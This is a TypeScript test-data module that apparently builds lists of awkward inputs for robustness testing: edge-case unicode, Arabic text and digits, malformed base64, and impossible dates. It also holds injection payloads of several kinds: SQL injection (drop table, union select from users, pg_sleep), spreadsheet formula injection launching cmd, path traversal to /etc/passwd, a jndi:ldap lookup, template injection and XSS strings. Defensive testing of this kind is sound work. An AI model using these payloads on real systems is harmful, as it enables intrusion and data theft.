// Texts that break what does not expect them.
import { type Kind, ofTexts } from "./kind.ts";

/** All of them: what is kept once comes back in later answers. */
export const hostileTexts: string[] = [];

function hostile(name: string, own: readonly string[]): Kind {
  hostileTexts.push(...own);
  return ofTexts(name, own);
}

const unicode = hostile("unicode", [
  ...[
    "\u0000",
    "a\u0000b",
    "\ud800",
    "\udfff",
    "\ud83d",
    "x\udc00y",
    "\ufeff",
    "\ufffe",
    "\uffff",
    "\u{10ffff}",
  ],
  ...[
    "\u202e",
    "abc\u202edcba",
    "\u2066\u2067\u2069",
    "\u200f\u200e",
    "\u061c",
    "\u200b",
    "\u200d",
    "\u00ad",
  ],
  ...[
    "e\u0301",
    "Z\u0351\u036b\u0343\u036a\u0302".repeat(40),
    "ﬃ",
    "ﷺ",
    "ﷻ",
    "İ",
    "ı",
    "ß",
    "ǰ",
    "𝕊𝕒𝕝𝕞𝕒",
    "👩‍👩‍👧‍👦",
    "🇲🇦",
  ],
  ...[
    "\u2028",
    "\u2029",
    "\u0085",
    "\r\n",
    "\n",
    "\t",
    "\u0007",
    "\u001b[31m",
    "\u007f",
    "\u00a0",
    " ",
    "　",
  ],
]);

const arabic = hostile("arabic", [
  ...[
    "اتفاقية شراكة",
    "الوكالة الوطنية لإنعاش التشغيل",
    "مُحَمَّد",
    "مـــحـــمـــد",
    "ﻣﺤﻤﺪ",
    "لا إله",
    "أإآاٱ",
    "ىيئ",
    "ةه",
  ],
  ...["١٢٣", "«قوسان»", "؟،؛", "abc عربي def", "‏عربي‏", "ٓٓٓٓٓ", "ـ".repeat(300), "ي".repeat(5000)],
]);

const digits = hostile("arabic digits", [
  ...[
    "١٢٣",
    "٢٠٢٥-٠٣-٠١",
    "۱۲۳",
    "１２３",
    "١٬٥٠٠",
    "١٢٫٥",
    "٪١٢",
    "-١٢",
    "²",
    "½",
    "Ⅻ",
    "१२",
    "𝟙𝟚",
    "1٢3",
    "٠",
    "١e٣",
  ],
]);

const sqlTexts = hostile("sql", [
  ...[
    "' or '1'='1",
    "'; drop table facts; --",
    '" or ""="',
    "1; select pg_sleep(5)",
    "') or pg_sleep(3)--",
    "$$",
    "\\",
  ],
  ...[
    "%",
    "_",
    "%%%%",
    "\\%",
    "' union select mail_folded from users --",
    "{1,2}",
    "{",
    "NULL",
    "null::text",
    "$1",
    "$1$2",
  ],
  ...[
    "::uuid",
    "/*",
    "*/",
    "--",
    "iltizam.scopes",
    '{"*":"*"}',
    "'||current_user||'",
    "E'\\\\000'",
    "0x00",
    "1e999",
  ],
]);

const formula = hostile("formula", [
  ...[
    "=1+1",
    '=HYPERLINK("http://exemple.test","x")',
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "＝1+1",
  ],
  ...["=cmd|'/C calc'!A0", ";=1", '"=1', "'=1", '=IMPORTXML("http://exemple.test")', "%0A=1"],
]);

const traversal = hostile("traversal", [
  ...[
    "../../../../etc/passwd",
    "..\\..\\..\\windows\\win.ini",
    "%2e%2e%2f",
    "..%2f..%2fkeys.json",
    "/etc/passwd",
    "file:///etc/passwd",
  ],
  ...[
    "....//....//",
    "keys.json",
    "../keys.json",
    "..%00",
    "C:\\",
    "\\\\exemple.test\\share",
    "/proc/self/environ",
    ".",
    "..",
  ],
  ...[
    "con",
    "logs/server.log",
    "~/",
    "$".concat("{jndi:ldap://exemple.test}"),
    "{{7*7}}",
    "<script>alert(1)</script>",
    "javascript:alert(1)",
  ],
]);

const base64 = hostile("base64", [
  ...[
    "====",
    "a",
    "ab=c",
    "!!!!",
    "TQ",
    "TQ==TQ==",
    "TQ==\n",
    "-_-_",
    "data:text/plain;base64,TQ==",
    "%PDF-1.7",
    "AAAA".repeat(20_000),
  ],
  ...["UEsDBBQAAAAAAA==", "H4sIAAAAAAAAAw==", "TVqQAAMAAAAEAAAA", "PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+", "", " "],
]);

const dates = hostile("dates", [
  ...[
    "2025-02-30",
    "2023-02-29",
    "0000-00-00",
    "0000-01-01",
    "2025-13-01",
    "2025-00-10",
    "2025-04-31",
    "9999-12-31",
  ],
  ...[
    "10000-01-01",
    "-0001-01-01",
    "-infinity",
    "infinity",
    "now",
    "today",
    "epoch",
    "2025-1-1",
    "01/02/2025",
    "20250101",
  ],
  ...[
    "2025-01-01T25:00:00Z",
    "2025-01-01T00:00:00+99:99",
    "2025-06-30T23:59:60Z",
    "4714-11-24 BC",
    "2025-W01-1",
    "1e3",
  ],
  ...[
    "5874898-01-01",
    "+275760-09-13T00:00:00.001Z",
    "0001-01-01",
    "1582-10-10",
    "2025-01-01 ",
    " 2025-01-01",
  ],
]);

export const texts = [unicode, arabic, digits, sqlTexts, formula, traversal, base64, dates];
